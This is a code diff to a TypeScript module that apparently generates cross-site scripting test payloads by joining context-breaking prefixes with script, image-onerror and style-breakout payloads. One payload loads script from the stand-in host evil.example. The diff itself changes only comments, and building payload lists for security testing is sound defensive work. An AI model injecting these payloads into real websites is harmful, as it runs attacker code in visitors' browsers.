@@ -1,7 +1,7 @@
 import { xssPayloads } from '../browser/tools/xssPayloads.ts';
 import { shared } from '../shared.ts';
 
-/** Ends of the places that a text may be in. */
+/** Ends of the contexts that a text can be in. */
 const ways = [
   '',
   '"',
@@ -24,7 +24,7 @@ const ways = [
 const call = 'alert(1)';
 const host = 'https://evil.example';
 
-/** What runs or is requested, by class. */
+/** Code that runs or requests something, by class. */
 const acts: Readonly<Record<string, string>> = {
   script: `<script>${call}</script>`,
   'script of a host': `<script src=${host}/a.js></script>`,
@@ -54,8 +54,8 @@ const acts: Readonly<Record<string, string>> = {
   'css end': `}</style><img src=x onerror=${call}>`,
 };
 
-/** 400 texts and more: each way out of a place before each act. */
+/** More than 400 texts: each end of a context before each piece of code. */
 const own: readonly string[] = Object.values(acts).flatMap((act) => ways.map((way) => way + act));
 
-/** Texts to attack with: those of the project's own, and the published lists where they are. */
+/** Payloads: our own, and the published lists if available. */
 export const payloads: readonly string[] = [...new Set([...own, ...(shared === undefined ? [] : xssPayloads())])];
